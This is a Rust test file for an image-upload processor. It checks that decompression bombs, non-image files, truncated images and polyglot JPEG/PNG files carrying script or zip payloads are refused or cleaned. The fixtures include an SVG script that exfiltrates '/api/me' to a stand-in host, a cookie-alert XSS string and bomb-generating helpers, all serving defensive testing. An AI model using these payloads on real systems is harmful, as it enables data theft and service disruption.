//! Hostile and broken uploads: each is refused, fast, with the right words.

use std::time::{Duration, Instant};

use image::DynamicImage;
use media::{Limits, PhotoError, process};

use crate::fixtures::*;

fn refused(bytes: &[u8]) -> PhotoError {
    process(bytes, &Limits::default()).expect_err("must be refused")
}

/// Refused without decoding: well under the time a decode of the claimed
/// size would take (tens of seconds, and gigabytes).
fn refused_fast(bytes: &[u8], limits: &Limits) -> PhotoError {
    let started = Instant::now();
    let error = process(bytes, limits).expect_err("must be refused");
    let took = started.elapsed();
    assert!(took < Duration::from_millis(500), "took {took:?}");
    error
}

#[test]
fn png_header_claiming_100000_squared() {
    let bomb = png_claiming(100_000, 100_000);
    assert!(bomb.len() < 100);
    assert_eq!(
        refused_fast(&bomb, &Limits::default()),
        PhotoError::TooManyPixels
    );
}

#[test]
fn png_claiming_many_pixels_within_side_limits() {
    // 16000 × 16000 passes the side limits, not the pixel limit.
    let bomb = png_claiming(16_000, 16_000);
    assert_eq!(
        refused_fast(&bomb, &Limits::default()),
        PhotoError::TooManyPixels
    );
}

#[test]
fn jpeg_header_claiming_65535_squared() {
    // JPEG sizes are 16-bit: 65535 × 65535 is the biggest a header can claim.
    let bomb = jpeg_claiming(&jpeg(&photo_like(64, 48)), 65_535, 65_535);
    assert_eq!(
        refused_fast(&bomb, &Limits::default()),
        PhotoError::TooManyPixels
    );
}

#[test]
fn gif_and_webp_headers_claiming_too_much() {
    let gif = gif_claiming(&animated_gif(8, 8, &[RED]), 65_535, 65_535);
    assert_eq!(
        refused_fast(&gif, &Limits::default()),
        PhotoError::TooManyPixels
    );
    let small = webp(&image::RgbaImage::new(8, 8));
    let webp = webp_claiming(&small, 16_000, 16_000);
    assert_eq!(
        refused_fast(&webp, &Limits::default()),
        PhotoError::TooManyPixels
    );
}

#[test]
fn zlib_bomb_png_is_refused_by_its_header() {
    // A complete, valid 1-bit PNG: 268 megapixels in about 40 KB, which
    // would expand to 800 MB of RGB.
    let bomb = zero_png(
        16_384,
        16_384,
        png::ColorType::Grayscale,
        png::BitDepth::One,
    );
    assert!(bomb.len() < 100 * 1024, "bomb is {} bytes", bomb.len());
    assert_eq!(
        refused_fast(&bomb, &Limits::default()),
        PhotoError::TooManyPixels
    );
}

#[test]
fn zlib_bomb_png_over_the_memory_limit() {
    // Within the pixel limit but 16-bit RGBA: 35 MB decoded, against a
    // 32 MiB budget.
    let bomb = zero_png(2_100, 2_100, png::ColorType::Rgba, png::BitDepth::Sixteen);
    let limits = Limits {
        max_alloc: 32 * 1024 * 1024,
        ..Limits::default()
    };
    assert_eq!(refused_fast(&bomb, &limits), PhotoError::TooManyPixels);
}

#[test]
fn more_bytes_than_allowed() {
    let limits = Limits::default();
    let mut big = jpeg(&photo_like(64, 48));
    big.resize(limits.max_bytes + 1, 0);
    assert_eq!(refused_fast(&big, &limits), PhotoError::TooLarge);
    assert_eq!(PhotoError::TooLarge.to_string(), "照片太大了（最大 10 MB）");

    let small_limit = Limits {
        max_bytes: 1000,
        ..Limits::default()
    };
    let photo = jpeg(&photo_like(200, 200));
    assert!(photo.len() > 1000);
    assert_eq!(process(&photo, &small_limit), Err(PhotoError::TooLarge));
}

#[test]
fn svg_with_script() {
    let svg = br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch('/api/me').then(r => r.text()).then(t => new Image().src = '//x/?' + t)</script>
  <rect width="100" height="100" fill="red"/>
</svg>"#;
    let error = refused(svg);
    assert_eq!(error, PhotoError::Unsupported("SVG"));
    assert_eq!(error.to_string(), "暂不支持 SVG 格式，请选择 JPG 图片");
}

#[test]
fn html_named_like_a_photo() {
    // The API takes only bytes: a name like "photo.jpg" never reaches it.
    let html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>";
    let error = refused(html);
    assert_eq!(error, PhotoError::NotAnImage);
    assert_eq!(
        error.to_string(),
        "这不是照片，请选择 JPG、PNG 或 WebP 图片"
    );
}

#[test]
fn documents_archives_and_programs() {
    let pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF";
    let zip = b"PK\x03\x04\x14\x00\x00\x00\x00\x00\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\x00\0\0evil/PK\x05\x06";
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
    exe.resize(128, 0);
    exe.extend_from_slice(b"PE\0\0\x4c\x01");
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    for bytes in [&pdf[..], &zip[..], &exe, &elf[..]] {
        assert_eq!(refused(bytes), PhotoError::NotAnImage);
    }
}

#[test]
fn empty_and_tiny_input() {
    for bytes in [&b""[..], b"\xFF", b"\xFF\xD8", b"\x89PNG"] {
        assert_eq!(refused(bytes), PhotoError::NotAnImage, "{bytes:?}");
    }
}

#[test]
fn magic_number_then_garbage() {
    assert_eq!(
        refused(b"\xFF\xD8\xFF\xE0 not really a jpeg"),
        PhotoError::Corrupt
    );
    assert_eq!(
        refused(b"\x89PNG\r\n\x1a\n not really a png"),
        PhotoError::Corrupt
    );
    assert_eq!(
        refused(b"GIF89a\x08\x00\x08\x00 not a gif"),
        PhotoError::Corrupt
    );
    assert_eq!(
        refused(b"RIFF\x10\0\0\0WEBPVP8 garbage"),
        PhotoError::Corrupt
    );
}

#[test]
fn truncated_jpeg() {
    let whole = jpeg(&photo_like(320, 240));
    assert!(process(&whole, &Limits::default()).is_ok());
    for cut in [whole.len() * 6 / 10, whole.len() - 2, 200] {
        let error = refused(&whole[..cut]);
        assert_eq!(
            error,
            PhotoError::Corrupt,
            "cut at {cut} of {}",
            whole.len()
        );
        assert_eq!(error.to_string(), "照片已损坏，无法打开");
    }
}

#[test]
fn truncated_png_and_zero_size() {
    let whole = png(&DynamicImage::ImageRgb8(photo_like(320, 240)));
    assert_eq!(refused(&whole[..whole.len() * 6 / 10]), PhotoError::Corrupt);
    assert_eq!(refused(&png_claiming(0, 10)), PhotoError::Corrupt);
}

#[test]
fn heic_is_named_and_the_resident_told_to_choose_jpg() {
    let mut heic = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec();
    heic.extend_from_slice(b"\0\0\x01\x00meta\0\0\0\0");
    let error = refused(&heic);
    assert_eq!(error, PhotoError::Unsupported("HEIC"));
    let message = error.to_string();
    assert!(
        message.contains("HEIC") && message.contains("JPG"),
        "{message}"
    );
}

const HTML_PAYLOAD: &[u8] = b"<html><script>alert('polyglot')</script></html>";
const ZIP_PAYLOAD: &[u8] = b"PK\x03\x04\x14\0\0\0\0\0payload.js<script>steal()</script>PK\x05\x06";

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn assert_payload_gone(bytes: &[u8]) {
    let photo = process(bytes, &Limits::default()).expect("the picture itself is valid");
    for out in [&photo.full, &photo.thumb] {
        assert!(!contains(out, b"<script"), "script survived");
        assert!(!contains(out, b"<html"), "html survived");
        assert!(!contains(out, b"PK\x03\x04"), "zip survived");
        assert!(!contains(out, b"steal()"), "payload survived");
        assert!(out.ends_with(&[0xFF, 0xD9]), "nothing after end of image");
    }
}

#[test]
fn polyglot_with_payload_appended() {
    let mut polyglot = jpeg(&photo_like(320, 240));
    polyglot.extend_from_slice(HTML_PAYLOAD);
    polyglot.extend_from_slice(ZIP_PAYLOAD);
    assert_payload_gone(&polyglot);
}

#[test]
fn polyglot_with_payload_in_comment_and_app_segments() {
    let photo = jpeg(&photo_like(320, 240));
    let with_comment = with_segment(&photo, 0xFE, HTML_PAYLOAD);
    let with_app = with_segment(&with_comment, 0xEB, ZIP_PAYLOAD);
    assert_payload_gone(&with_app);
}

#[test]
fn polyglot_png_with_payload_chunks() {
    let photo = png(&DynamicImage::ImageRgb8(photo_like(120, 90)));
    let iend = photo.len() - 12;
    let mut polyglot = photo[..iend].to_vec();
    polyglot.extend(png_chunk(b"tEXt", &[b"Comment\0", HTML_PAYLOAD].concat()));
    polyglot.extend_from_slice(&photo[iend..]);
    polyglot.extend_from_slice(ZIP_PAYLOAD);
    assert_payload_gone(&polyglot);
}
